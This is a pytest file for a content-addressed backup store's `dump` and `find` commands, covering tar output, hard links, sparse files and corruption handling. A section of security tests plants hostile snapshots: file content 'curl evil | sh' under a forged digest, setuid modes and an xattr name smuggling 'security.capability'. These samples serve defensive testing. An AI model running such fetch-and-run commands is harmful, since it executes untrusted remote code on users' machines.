"""`dump` (a snapshot's file or folder to stdout, as restic's) and `find` (which snapshots
hold matching paths), through the API and the command line."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

import castore
from castore.format import layout
from castore.versions.catalog import commit_version
from tests.helpers import pattern
from tests.test_backup import commit_raw_tree, raw_file
from tests.test_backup_fidelity import MTIME, build_linked_tree

MIB = 1024 * 1024


@pytest.fixture
def local_store(tmp_path: Path) -> Iterator[castore.Store]:
    with castore.init(str(tmp_path / "store")) as opened:
        yield opened


def cli(store: castore.Store, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "castore", "--store", store.url, *args],
        capture_output=True,
        env={**os.environ, "CASTORE_STORE": ""},
        timeout=120,
    )


def build_tree(root: Path) -> None:
    """Hard links, a symlink, a sparse file, an unreadable file, modes and mtimes."""
    build_linked_tree(root)
    (root / "b" / "link").symlink_to("../single")
    (root / "b" / "run.sh").write_bytes(b"#!/bin/sh\n")
    os.chmod(root / "b" / "run.sh", 0o750)
    with open(root / "holes", "wb") as file:
        file.truncate(4 * MIB)
        file.seek(2 * MIB)
        file.write(pattern(4096, 9))
    (root / "secret").write_bytes(b"x")
    os.chmod(root / "secret", 0)


@pytest.fixture
def home(local_store: castore.Store, tmp_path: Path) -> tuple[Path, castore.Snapshot]:
    """The tree of build_tree, and its snapshot backups/home."""
    src = tmp_path / "src"
    build_tree(src)
    return src, local_store.backup(src, "backups/home")


def test_dump_writes_a_file_verified_and_refuses_a_folder(
    local_store: castore.Store, home: tuple[Path, castore.Snapshot]
) -> None:
    src, snap = home
    for path in ("a/data.bin", "/b/deep/again.bin", "holes", "b/run.sh"):
        out = io.BytesIO()
        size = local_store.dump(snap.reference, path, out)
        assert out.getvalue() == (src / path.lstrip("/")).read_bytes()
        assert size == len(out.getvalue())
    done = cli(local_store, "dump", "backups/home", "a/data.bin")
    assert done.returncode == 0, done.stderr
    assert done.stdout == (src / "a" / "data.bin").read_bytes()
    refused = cli(local_store, "dump", "backups/home", "b")
    assert refused.returncode == 2 and b"--archive tar" in refused.stderr
    assert refused.stdout == b""
    missing = cli(local_store, "dump", "backups/home", "nothing/here")
    assert missing.returncode == 3 and missing.stdout == b""
    with pytest.raises(castore.InvalidInputError, match="symlink, not a file"):
        local_store.dump(snap.reference, "b/link", io.BytesIO())
    with pytest.raises(castore.InvalidInputError, match="archive must be one of"):
        local_store.dump(snap.reference, "b", io.BytesIO(), archive="zip")


def _members(data: bytes) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as archive:
        return {member.name: member for member in archive.getmembers()}


def test_dump_archive_is_a_tar_that_tar_extracts_as_the_backed_up_tree(
    local_store: castore.Store, home: tuple[Path, castore.Snapshot], tmp_path: Path
) -> None:
    src, snap = home
    done = cli(local_store, "dump", snap.reference, "/", "--archive", "tar")
    assert done.returncode == 0, done.stderr
    members = _members(done.stdout)
    # The unreadable file was skipped by the backup (unless we run as root): no member.
    assert ("secret" in members) == (os.geteuid() == 0)
    assert members["b/link"].issym() and members["b/link"].linkname == "../single"
    assert members["third.bin"].islnk() and members["third.bin"].linkname == "a/data.bin"
    assert members["b/run.sh"].mode == 0o750
    assert members["a"].isdir()
    assert members["single"].mtime == pytest.approx(MTIME / 1e9, abs=1e-6)

    if shutil.which("tar") is None:
        pytest.skip("no tar program to extract with")
    out = tmp_path / "out"
    out.mkdir()
    subprocess.run(["tar", "-xf", "-", "-C", str(out)], input=done.stdout, check=True)
    for name in ("a/data.bin", "b/one", "b/two", "b/run.sh", "holes", "third.bin"):
        assert (out / name).read_bytes() == (src / name).read_bytes()
    assert os.readlink(out / "b" / "link") == "../single"
    assert os.lstat(out / "third.bin").st_ino == os.lstat(out / "a" / "data.bin").st_ino
    assert os.lstat(out / "single").st_mtime_ns // 1000 == MTIME // 1000
    assert os.lstat(out / "b" / "run.sh").st_mode & 0o7777 == 0o750


def test_dump_archive_of_a_folder_links_only_to_names_inside_it(
    local_store: castore.Store, home: tuple[Path, castore.Snapshot]
) -> None:
    src, snap = home
    out = io.BytesIO()
    count = local_store.dump(snap.reference, "b", out, archive="tar")
    members = _members(out.getvalue())
    assert count == len(members)
    assert set(members) == {
        "b",
        "b/deep",
        "b/deep/again.bin",
        "b/link",
        "b/one",
        "b/two",
        "b/run.sh",
    }
    # again.bin's first name (a/data.bin) is outside the folder: it is a whole file here.
    assert members["b/deep/again.bin"].isfile()
    assert members["b/deep/again.bin"].size == (src / "a" / "data.bin").stat().st_size
    assert members["b/two"].islnk() and members["b/two"].linkname == "b/one"
    one_file = io.BytesIO()
    assert local_store.dump(snap.reference, "b/one", one_file, archive="tar") == 1
    assert set(_members(one_file.getvalue())) == {"b/one"}


def test_dump_stops_at_a_damaged_chunk(local_store: castore.Store, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "big").write_bytes(pattern(3 * MIB, 2))
    snap = local_store.backup(src, "backups/one")
    root = Path(local_store.url.removeprefix("file://"))
    for pack in (root / layout.PACKS).rglob("*"):
        if pack.is_file():
            data = bytearray(pack.read_bytes())
            data[100] ^= 0xFF
            pack.write_bytes(bytes(data))
    done = cli(local_store, "dump", snap.reference, "big")
    assert done.returncode == 1 and b"corrupt" in done.stderr
    assert len(done.stdout) < 3 * MIB


def test_find_lists_the_snapshots_that_hold_matching_paths(
    local_store: castore.Store, tmp_path: Path
) -> None:
    src = tmp_path / "src"
    (src / "data" / "raw").mkdir(parents=True)
    (src / "data" / "train.csv").write_text("a,b\n")
    first = local_store.backup(src, "backups/home")
    (src / "data" / "raw" / "test.csv").write_text("c\n")
    (src / "notes.txt").write_text("n")
    second = local_store.backup(src, "backups/home")
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "train.csv").write_text("x")
    other = local_store.backup(tmp_path / "other", "backups/other")
    local_store.save({"train.csv": 1}, "models/obj")  # not a snapshot: passed over

    def found(*patterns: str, names: list[str] | None = None) -> list[tuple[str, list[str]]]:
        return [
            (match.version.reference, [e.path_str for e in match.entries])
            for match in local_store.find_paths(patterns, names)
        ]

    assert found("*.csv", names=["backups/home"]) == [
        (first.reference, ["data/train.csv"]),
        (second.reference, ["data/raw/test.csv", "data/train.csv"]),
    ]
    assert found("train.csv") == [
        (first.reference, ["data/train.csv"]),
        (second.reference, ["data/train.csv"]),
        (other.reference, ["train.csv"]),
    ]
    # With a '/', the whole path, one component per part: '*' never crosses a '/'.
    assert found("data/*.csv") == [
        (first.reference, ["data/train.csv"]),
        (second.reference, ["data/train.csv"]),
    ]
    assert found("/data/*/t?st.[ct]sv") == [(second.reference, ["data/raw/test.csv"])]
    assert found("notes.txt", "raw") == [
        (first.reference, ["data/raw"]),
        (second.reference, ["data/raw", "notes.txt"]),
    ]
    assert found("*.parquet") == []
    with pytest.raises(castore.InvalidInputError, match="at least one pattern"):
        found()

    done = cli(local_store, "--json", "find", "test.csv", "--name", "backups/home")
    assert done.returncode == 0, done.stderr
    rows = json.loads(done.stdout)
    assert [(r["reference"], [m["path"] for m in r["matches"]]) for r in rows] == [
        (second.reference, ["data/raw/test.csv"])
    ]
    text = cli(local_store, "find", "*.csv").stdout.decode()
    assert "backups/home:2" in text and "data/raw/test.csv" in text
    assert "(no snapshot holds" in cli(local_store, "find", "*.zip").stdout.decode()


# -- found by attacking dump and find (a store writer plants the trees) ---------------------


def test_dump_checks_a_file_against_its_digest_before_writing_a_byte(
    local_store: castore.Store,
) -> None:
    """An entry claiming an honest file's digest over other chunks: diff and ls go by the
    digest, so dump must not hand out the chunks' bytes."""
    honest = local_store.repository.write_stream(b"trusted release\n")
    evil = local_store.repository.write_stream(b"curl evil | sh\n")
    ref = commit_raw_tree(
        local_store, "planted", [raw_file(b"install.sh", evil, sha256=honest.sha256)]
    )
    out = io.BytesIO()
    with pytest.raises(castore.IntegrityError, match="the snapshot is damaged"):
        local_store.dump(ref, "install.sh", out)
    assert out.getvalue() == b""
    archive = io.BytesIO()
    with pytest.raises(castore.IntegrityError, match="the snapshot is damaged"):
        local_store.dump(ref, "/", archive, archive="tar")
    assert b"curl evil" not in archive.getvalue()


def test_dump_of_the_root_without_an_archive_is_refused(local_store: castore.Store) -> None:
    content = local_store.repository.write_stream(b"first file\n")
    ref = commit_raw_tree(local_store, "one", [raw_file(b"a", content)])
    empty = commit_raw_tree(local_store, "empty", [])
    for snapshot in (ref, empty):
        for root in ("/", "", "."):
            with pytest.raises(castore.InvalidInputError, match="is a directory"):
                local_store.dump(snapshot, root, io.BytesIO())
    with pytest.raises(castore.NotFoundError):
        local_store.dump(ref, "a/b", io.BytesIO())


def test_dump_archive_drops_setid_bits_as_restore_does(local_store: castore.Store) -> None:
    content = local_store.repository.write_stream(b"#!/bin/sh\n")
    planted = raw_file(b"su", content, mode=0o6755)
    ref = commit_raw_tree(local_store, "setid", [planted])
    out = io.BytesIO()
    local_store.dump(ref, "/", out, archive="tar")
    assert _members(out.getvalue())["su"].mode == 0o755


def test_find_stops_at_a_damaged_snapshot_and_passes_over_what_is_not_one(
    local_store: castore.Store, tmp_path: Path
) -> None:
    content = local_store.repository.write_stream(b"x")
    commit_raw_tree(local_store, "good", [raw_file(b"train.csv", content)])
    assert [m.version.name for m in local_store.find_paths(["*.csv"])] == ["good"]
    with_pickle = commit_version(
        local_store.repository, "pickled", content, kind="tree", serializer="pickle",
        serializer_version="1", metadata={}, tags=(), force=True,
    )  # fmt: skip
    assert with_pickle.kind == "tree"
    assert [m.version.name for m in local_store.find_paths(["*.csv"])] == ["good"]
    commit_raw_tree(local_store, "broken", [raw_file(b"train.csv", content)], version="x")
    with pytest.raises(castore.IntegrityError, match="invalid tree format version"):
        list(local_store.find_paths(["*.csv"]))
    commit_raw_tree(local_store, "newer", [raw_file(b"train.csv", content)], version="99")
    with pytest.raises(castore.UnsupportedFormatError):
        list(local_store.find_paths(["*.csv"], names=["newer"]))
    found = next(iter(local_store.find_paths(["*.csv"], names=["good"])))
    assert found.entries[0].chunk_ids == b""  # listings do not carry chunk lists


def test_dump_archive_leaves_out_attribute_names_pax_cannot_carry(
    local_store: castore.Store,
) -> None:
    """Found by the attack on tree format 3: a user.\\xff name (any user may set one) made
    tarfile raise UnicodeEncodeError; a name with '=' would be split by tar."""
    content = local_store.repository.write_stream(b"x")
    pairs = [[b"user.a=security.capability", b"1"], [b"user.ok", b"kept"], [b"user.\xff", b"2"]]
    ref = commit_raw_tree(
        local_store, "attrs", [raw_file(b"f", content, xattrs=pairs)], version="3"
    )
    out = io.BytesIO()
    local_store.dump(ref, "/", out, archive="tar")
    headers = _members(out.getvalue())["f"].pax_headers
    assert {k: v for k, v in headers.items() if k.startswith("SCHILY")} == {
        "SCHILY.xattr.user.ok": "kept"
    }
